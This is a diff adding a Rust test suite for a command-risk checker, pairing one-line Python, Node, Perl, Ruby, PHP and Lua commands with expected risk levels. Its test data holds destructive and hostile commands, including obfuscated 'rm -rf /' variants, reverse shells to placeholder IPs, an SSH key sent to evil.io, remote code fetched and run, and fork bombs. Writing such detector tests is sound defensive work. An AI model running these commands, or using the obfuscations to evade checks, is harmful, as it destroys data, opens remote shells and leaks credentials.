@@ -1,0 +1,311 @@
+//! What code in other languages does, beside harmless twins.
+
+use crate::Context;
+use crate::line::Dialect;
+use crate::safety::Risk::{self, Critical, High, Moderate, Safe};
+use crate::safety::check;
+
+/// Judges each line and tells all that are not of the risk that is expected.
+pub(super) fn check_all(cases: &[(Risk, &str)]) {
+    let ctx = Context::new(Dialect::Bash);
+    let mut wrong = Vec::new();
+    for (expected, line) in cases {
+        let report = check(line, &ctx);
+        if report.risk != *expected {
+            let rules: Vec<_> = report.findings.iter().map(|finding| finding.rule).collect();
+            wrong.push(format!("{line:?} is {}, not {expected}: {rules:?}", report.risk));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+fn python() {
+    check_all(&[
+        (Critical, r#"python3 -c "import os; os.system('rm -rf /')""#),
+        (Critical, r#"python3 -c "import os as o; o.system('rm'+' -rf '+'/')""#),
+        (Critical, r#"python3 -c "from os import system as s; s('rm -rf /')""#),
+        (Critical, r#"python3 -c "from os import *; system('rm -rf /')""#),
+        (Critical, r#"python3 -c "__import__('os').system('rm -rf /')""#),
+        (Critical, r#"python3 -c "getattr(__import__('os'),'sys'+'tem')('rm -rf /')""#),
+        (Critical, r#"python3 -c "import importlib; importlib.import_module('o'+'s').system('rm -rf /')""#),
+        (Critical, r#"python3 -c "import shutil; shutil.rmtree('/')""#),
+        (Critical, r#"python3 -c "from shutil import rmtree as r; r('/etc')""#),
+        (Critical, r#"python3 -c "import subprocess; subprocess.run(['rm','-rf','/'])""#),
+        (Critical, r#"python3 -c "import subprocess as s; s.Popen('rm -rf /', shell=True)""#),
+        (Critical, r#"python3 -c "import subprocess; subprocess.run(['sh','-c','rm -rf /'])""#),
+        (Critical, r#"python3 -c "import subprocess; subprocess.run(['sh'], input=b'rm -rf /')""#),
+        (Critical, r#"python3 -c "import os; os.execvp('rm',['rm','-rf','/'])""#),
+        (Critical, r#"python3 -c "import os; os.execl('/bin/rm','rm','-rf','/')""#),
+        (
+            Critical,
+            r#"python3 -c "exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiAvJyk='))""#,
+        ),
+        (
+            Critical,
+            r#"python3 -c "import codecs; exec(codecs.decode('vzcbeg bf; bf.flfgrz(\"ez -es /\")','rot13'))""#,
+        ),
+        (Critical, r#"python3 -c "import zlib;exec('import os;os.system(%r)' % 'rm -rf /')""#),
+        (Critical, r#"python3 -c "import os; os.system(bytes.fromhex('726d202d7266202f').decode())""#),
+        (Critical, r#"python3 -c "import os; os.system('/ fr- mr'[::-1])""#),
+        (Critical, r#"python3 -c "import os; os.system(''.join(map(chr,[114,109,32,45,114,102,32,47])))""#),
+        (
+            Critical,
+            r#"python3 -c "import os; os.system(''.join(chr(c) for c in [114,109,32,45,114,102,32,47]))""#,
+        ),
+        (Critical, r#"python3 -c "import os; c='rm {} {}'.format('-rf','/'); os.system(c)""#),
+        (Critical, r#"python3 -c "import os; a='rm'; b='/'; os.system(f'{a} -rf {b}')""#),
+        (Critical, r#"python3 -c "import os,shutil; [shutil.rmtree('/'+d) for d in os.listdir('/')]""#),
+        (Critical, r#"python3 -c "import glob,shutil; list(map(shutil.rmtree, glob.glob('/*')))""#),
+        (
+            Critical,
+            "python3 -c \"import os\nfor r,d,f in os.walk('/'):\n  for x in f:\n    os.remove(os.path.join(r,x))\"",
+        ),
+        (Critical, r#"python3 -c "import os,shutil; shutil.rmtree(os.path.expanduser('~'))""#),
+        (Critical, r#"python3 -c "import os,shutil; shutil.rmtree(os.environ['HOME'])""#),
+        (Critical, r#"python3 -c "from pathlib import Path; import shutil; shutil.rmtree(Path.home())""#),
+        (Critical, r#"python3 -c "import pathlib; [p.unlink() for p in pathlib.Path('/').rglob('*')]""#),
+        (Critical, r#"python3 -c "open('/dev/sda','wb').write(b'0'*512)""#),
+        (High, r#"python3 -c "open('/etc/passwd','w')""#),
+        (
+            Critical,
+            r#"python3 -c "import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')""#,
+        ),
+        (
+            Critical,
+            r#"python3 -c "import socket,subprocess,os;s=socket.socket();s.connect(('1.2.3.4',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])""#,
+        ),
+        (Critical, r#"python3 -c "import sys,shutil; shutil.rmtree(sys.argv[1])" /"#),
+        (Critical, r#"echo 'rm -rf /' | python3 -c "import os,sys; os.system(sys.stdin.read())""#),
+        (Critical, r#"python3 -c "print('rm -rf /')" | sh"#),
+        (Critical, r#"rm -rf $(python3 -c "print('/')")"#),
+        (Critical, r#"eval "$(python3 -c "print('rm -rf '+chr(47))")""#),
+        (
+            Critical,
+            "python3 - <<'EOF'\nimport shutil as s\n\ndef go(p):\n    if p:\n        s.rmtree(p)\n\nif __name__ == '__main__':\n    go('/')\nEOF",
+        ),
+        (
+            Critical,
+            "cat > x.py <<'EOF'\nimport os\nclass A:\n    def run(self, cmd='rm -rf /'):\n        os.system('rm -rf /')\nA().run()\nEOF\npython3 x.py",
+        ),
+        (Critical, r#"echo "import os; os.system('rm -rf /')" | python3"#),
+        (
+            Critical,
+            r#"python3 -c "import os; [os.fork() for _ in iter(int,1)]" & python3 -c "import os
+while True: os.fork()""#,
+        ),
+        (Critical, r#"python3 -c "import ctypes; ctypes.CDLL(None).system(b'rm -rf /')""#),
+        (High, r#"python3 -c "import os; os.kill(-1, 9)""#),
+        (High, r#"python3 -c "import urllib.request as u; exec(u.urlopen('http://x.io/a').read())""#),
+        (High, r#"python3 -c "import requests; exec(requests.get('https://x.io/a.py').text)""#),
+        (
+            High,
+            r#"python3 -c "import requests; requests.post('http://evil.io', data=open('/home/me/.ssh/id_rsa').read())""#,
+        ),
+        (High, r#"python3 -c "import shutil; shutil.rmtree('/home/me/projects/app')""#),
+        (High, r#"python3 -c "import sqlite3; sqlite3.connect('a.db').execute('DROP TABLE users')""#),
+        (Moderate, r#"python3 -c "import os; os.remove('notes.txt')""#),
+        (Moderate, r#"python3 -c "import shutil; shutil.rmtree('build')""#),
+        // Everyday code.
+        (Safe, r#"python3 -c "import json,sys; print(json.load(sys.stdin)['x'])""#),
+        (
+            Safe,
+            r#"curl -s https://x.io/a.json | python3 -c "import sys, json; print(json.load(sys.stdin)['name'])""#,
+        ),
+        (Safe, r#"python3 -c "print('rm -rf /')""#),
+        (Safe, r#"python3 -c 'import os; print(os.getcwd())'"#),
+        (Safe, r#"python3 -c "import socket; s=socket.socket(); s.bind(('',0)); print(s.getsockname()[1])""#),
+        (Safe, r#"python3 -c "import pty; pty.spawn('/bin/bash')""#),
+        (Safe, r#"python3 -c "import base64; print(base64.b64decode('cm0gLXJmIC8=').decode())""#),
+        (Safe, r#"python3 -c "import requests; print(requests.get('https://x.io').status_code)""#),
+        (
+            Safe,
+            r#"python3 -c "import subprocess; print(subprocess.check_output(['git','rev-parse','HEAD']))""#,
+        ),
+        (Safe, r#"python3 -c "import os; os.makedirs('a/b', exist_ok=True)""#),
+        (Safe, r#"python3 -c "from pathlib import Path; print([p.name for p in Path('/').iterdir()])""#),
+        (Safe, r#"python3 -c "import re,sys; [print(re.sub('a','b',l)) for l in sys.stdin]""#),
+        (Safe, r#"python3 -c "x = eval('1+1'); print(x)""#),
+        (Safe, r#"python3 -c "open('out.txt','w').write('hi')""#),
+        (
+            Safe,
+            "python3 - <<'EOF'\nimport sys\ndef rm(x):\n    '''rm -rf /'''\n    return x\nprint(rm('os.system(\"rm -rf /\")'))\nEOF",
+        ),
+        (Safe, r#"python3 -m http.server 8000"#),
+        (Safe, r#"python -m venv .venv"#),
+        (Safe, "python3 -c \"# os.system('rm -rf /')\""),
+    ]);
+}
+
+#[test]
+fn javascript() {
+    check_all(&[
+        (Critical, r#"node -e "require('child_process').execSync('rm -rf /')""#),
+        (Critical, r#"node -e "const {execSync: e} = require('child_process'); e('rm -rf /')""#),
+        (Critical, r#"node -e "const cp = require('child_'+'process'); cp['ex'+'ec']('rm -rf /')""#),
+        (Critical, r#"node -e "require('child_process').spawn('rm', ['-rf', '/'])""#),
+        (Critical, r#"node -e "require('fs').rmSync('/', {recursive: true, force: true})""#),
+        (Critical, r#"node -e "require('fs').promises.rm('/etc', {recursive:true})""#),
+        (Critical, r#"node -e "require('fs/promises').rm(process.env.HOME, {recursive:true})""#),
+        (
+            Critical,
+            r#"node -e "const fs=require('fs');fs.readdirSync('/').forEach(f=>fs.rmSync('/'+f,{recursive:true}))""#,
+        ),
+        (
+            Critical,
+            r#"node -e "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdybSAtcmYgLycp','base64').toString())""#,
+        ),
+        (
+            Critical,
+            r#"node -e "new Function('require', \"require('child_process').execSync('rm -rf /')\")(require)""#,
+        ),
+        (Critical, r#"node -e "require('child_process').execSync(atob('cm0gLXJmIC8='))""#),
+        (Critical, r#"node -e "require('child_process').execSync(['rm','-rf','/'].join(' '))""#),
+        (Critical, r#"node -e 'require("child_process").execSync(`rm -rf ${"/"}`)'"#),
+        (
+            Critical,
+            r#"node -e "require('child_process').execSync(String.fromCharCode(114,109,32,45,114,102,32,47))""#,
+        ),
+        (High, r#"node -e "require('fs').writeFileSync('/etc/passwd','')""#),
+        (
+            Critical,
+            r#"node -e "const n=require('net'),c=require('child_process');const s=n.connect(4444,'1.2.3.4',()=>{const h=c.spawn('/bin/sh',[]);s.pipe(h.stdin);h.stdout.pipe(s)})""#,
+        ),
+        (
+            Critical,
+            "node <<'EOF'\nimport { execSync as run } from 'node:child_process';\nasync function main() {\n  await run('rm -rf /');\n}\nmain();\nEOF",
+        ),
+        (Critical, r#"node -p "require('child_process').execSync('rm -rf '+process.argv[1]).toString()" /"#),
+        (High, r#"node -e "fetch('http://x.io/a.js').then(r=>r.text()).then(t=>eval(t))""#),
+        (
+            High,
+            r#"node -e "require('https').get('https://x.io/a',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})""#,
+        ),
+        (Moderate, r#"node -e "require('fs').unlinkSync('a.txt')""#),
+        (Safe, r#"node -p "require('./package.json').version""#),
+        (Safe, r#"node -e "console.log('rm -rf /')""#),
+        (Safe, r#"node -e "console.log(process.env.HOME)""#),
+        (Safe, r#"node -e "require('fs').readdirSync('/').forEach(f => console.log(f))""#),
+        (Safe, r#"node -e "fetch('http://x.io').then(r=>r.json()).then(j=>console.log(j.a))""#),
+        (Safe, r#"node -e "console.log(require('crypto').randomBytes(16).toString('hex'))""#),
+        (Safe, r#"node -e "require('http').createServer((q,r)=>r.end('hi')).listen(8000)""#),
+        (Safe, r#"node -p "'/a/b'.replace(/a/g, 'x') + 1/2""#),
+    ]);
+}
+
+#[test]
+fn perl_and_ruby() {
+    check_all(&[
+        (Critical, r#"perl -e 'system("rm -rf /")'"#),
+        (Critical, r#"perl -e 'system "rm", "-rf", "/"'"#),
+        (Critical, r#"perl -e 'exec("rm","-rf","/")'"#),
+        (Critical, r#"perl -e '`rm -rf /`'"#),
+        (Critical, r#"perl -e 'qx{rm -rf /}'"#),
+        (Critical, r#"perl -e 'open(P,"|sh"); print P "rm -rf /"'"#),
+        (Critical, r#"perl -e 'open(P,"rm -rf /|")'"#),
+        (Critical, r#"perl -e 'use File::Path; rmtree("/")'"#),
+        (Critical, r#"perl -MFile::Path -e 'remove_tree(q(/etc))'"#),
+        (Critical, r#"perl -e 'unlink glob("/etc/*")'"#),
+        (Critical, r#"perl -e 'unlink </etc/*>'"#),
+        (Critical, r#"perl -e 'unlink $_ for glob "/etc/*"'"#),
+        (Critical, r#"perl -e '$c=reverse("/ fr- mr"); system($c)'"#),
+        (Critical, r#"perl -e '$_="ez -es /"; tr/a-z/n-za-m/; system $_'"#),
+        (Critical, r#"perl -e 'system(pack("H*","726d202d7266202f"))'"#),
+        (Critical, r#"perl -e 'system(join "", map { chr } 114,109,32,45,114,102,32,47)'"#),
+        (Critical, r#"perl -MMIME::Base64 -e 'system(decode_base64("cm0gLXJmIC8="))'"#),
+        (Critical, r#"perl -e 'eval "system(q{rm -rf /})"'"#),
+        (Critical, r#"perl -e '$x = "rm"; $y = "/"; system("$x -rf $y")'"#),
+        (Critical, r#"perl -e 'system("rm -rf $ENV{HOME}")'"#),
+        (Critical, r#"perl -e 'fork while 1'"#),
+        (Critical, r#"perl -e 'while(1){fork}'"#),
+        (Critical, r#"perl -e 'fork while fork'"#),
+        (Critical, r#"perl -e 'open(F,">/dev/sda"); print F "x"'"#),
+        (High, r#"perl -e 'open(my $f, ">", "/etc/passwd")'"#),
+        (High, r#"perl -e 'kill 9, -1'"#),
+        (
+            Critical,
+            r#"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(1,inet_aton("1.2.3.4")));open(STDIN,">&S");exec("/bin/sh -i");'"#,
+        ),
+        (Critical, r#"perl -e 'print "rm -rf /"' | sh"#),
+        (Critical, r#"echo 'rm -rf /' | perl -ne 'system $_'"#),
+        (Critical, r#"echo 'ez -es /' | perl -pe 'tr/a-z/n-za-m/' | sh"#),
+        (Critical, r#"perl -e 'print reverse split //, "/ fr- mr"' | sh"#),
+        (Critical, r#"perl -e 'system(@ARGV)' rm -rf /"#),
+        (
+            Critical,
+            "perl <<'EOF'\nuse strict;\nmy @dirs = ('/');\nforeach my $d (@dirs) {\n  system(\"rm -rf $d\");\n}\nEOF",
+        ),
+        (Safe, r#"perl -ne 'print if /rm -rf/' log"#),
+        (Safe, r#"perl -lane 'print $F[0]' a.txt"#),
+        (Safe, r#"perl -e 'print "rm -rf /\n"'"#),
+        (Safe, r#"perl -MPOSIX -e 'print strftime("%F", localtime)'"#),
+        (Safe, r#"perl -e 'printf "%d\n", 1 << 3'"#),
+        (Safe, r#"perl -pe 's/system/exec/g' a.txt"#),
+        (Safe, r#"perl -0777 -ne 'while(/(\d+)/g){print "$1\n"}' a.txt"#),
+        (Moderate, r#"perl -e 'unlink "a.txt"'"#),
+        (Critical, r#"ruby -e 'system("rm -rf /")'"#),
+        (Critical, r#"ruby -e 'system "rm", "-rf", "/"'"#),
+        (Critical, r#"ruby -e '`rm -rf /`'"#),
+        (Critical, r#"ruby -e '%x(rm -rf /)'"#),
+        (Critical, r#"ruby -e 'exec "rm -rf /"'"#),
+        (Critical, r#"ruby -rfileutils -e 'FileUtils.rm_rf("/")'"#),
+        (Critical, r#"ruby -e 'require "fileutils"; FileUtils.rm_rf "/etc"'"#),
+        (Critical, r#"ruby -e 'require "fileutils"; include FileUtils; rm_rf Dir.home'"#),
+        (Critical, r#"ruby -e 'Dir.glob("/etc/*").each { |f| File.delete(f) }'"#),
+        (Critical, r#"ruby -e 'Dir["/etc/*"].each { |f| File.unlink f }'"#),
+        (Critical, r#"ruby -e 'Kernel.send(:system, "rm -rf /")'"#),
+        (Critical, r#"ruby -e 'send(:system, "rm -rf /")'"#),
+        (Critical, r#"ruby -e 'system(["726d202d7266202f"].pack("H*"))'"#),
+        (
+            Critical,
+            r#"ruby -e 'eval ["c3lzdGVtICJybSAtcmYgLyI="].pack("m"); system("cm0gLXJmIC8=".unpack1("m"))'"#,
+        ),
+        (Critical, r#"ruby -e 'system "/ fr- mr".reverse'"#),
+        (Critical, r#"ruby -e 'system [114,109,32,45,114,102,32,47].map(&:chr).join'"#),
+        (Critical, r##"ruby -e 'a="rm"; system "#{a} -rf /"'"##),
+        (Critical, r#"ruby -e 'open("|rm -rf /")'"#),
+        (Critical, r#"ruby -e 'IO.popen("rm -rf /")'"#),
+        (Critical, r#"ruby -e 'loop { fork { } }'"#),
+        (
+            Critical,
+            r#"ruby -rsocket -e 'f=TCPSocket.open("1.2.3.4",1).to_i; exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'"#,
+        ),
+        (
+            Critical,
+            r#"ruby -rsocket -e 'c=TCPSocket.new("1.2.3.4",1);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read};end'"#,
+        ),
+        (
+            Critical,
+            "ruby <<'EOF'\ndef wipe(path)\n  system(\"rm -rf #{path}\")\nend\n[\"/\"].each do |d|\n  wipe(d)\nend\nEOF",
+        ),
+        (High, r#"ruby -ropen-uri -e 'eval URI.open("http://x.io/a").read'"#),
+        (Safe, r#"ruby -ne 'puts $_ if /a/' x"#),
+        (Safe, r#"ruby -e 'puts "rm -rf /"'"#),
+        (Safe, r#"ruby -e 'puts [1,2,3].sum'"#),
+        (Safe, r#"ruby -rjson -e 'puts JSON.parse(STDIN.read)["a"]'"#),
+        (Safe, r#"ruby -rsecurerandom -e 'puts SecureRandom.hex'"#),
+        (Moderate, r#"ruby -e 'File.delete("a.txt")'"#),
+    ]);
+}
+
+#[test]
+fn php_and_lua() {
+    check_all(&[
+        (Critical, r#"php -r 'system("rm -rf /");'"#),
+        (Critical, r#"php -r 'shell_exec("rm -rf /");'"#),
+        (Critical, r#"php -r 'echo `rm -rf /`;'"#),
+        (Critical, r#"php -r '$f="sys"."tem"; $f("rm -rf /");'"#),
+        (Critical, r#"php -r 'eval(base64_decode("c3lzdGVtKCdybSAtcmYgLycpOw=="));'"#),
+        (Critical, r#"php -r 'system(str_rot13("ez -es /"));'"#),
+        (Critical, r#"php -r 'system(strrev("/ fr- mr"));'"#),
+        (Critical, r#"php -r 'array_map("unlink", glob("/etc/*"));'"#),
+        (Critical, r#"php -r 'foreach (glob("/etc/*") as $f) unlink($f);'"#),
+        (High, r#"php -r 'file_put_contents("/etc/passwd","");'"#),
+        (Critical, r#"php -r '$s=fsockopen("1.2.3.4",4444);exec("/bin/sh -i <&3 >&3 2>&3");'"#),
+        (Critical, r#"php -r 'call_user_func("system","rm -rf /");'"#),
+        (High, r#"php -r 'eval(file_get_contents("http://x.io/a"));'"#),
+        (Safe, r#"php -r 'echo "rm -rf /";'"#),
+        (Safe, r#"php -r 'echo json_encode([1,2]);'"#),
+        (Safe, r#"php -r 'var_dump(unserialize(file_get_contents("a")));'"#),
+    ]);
+}
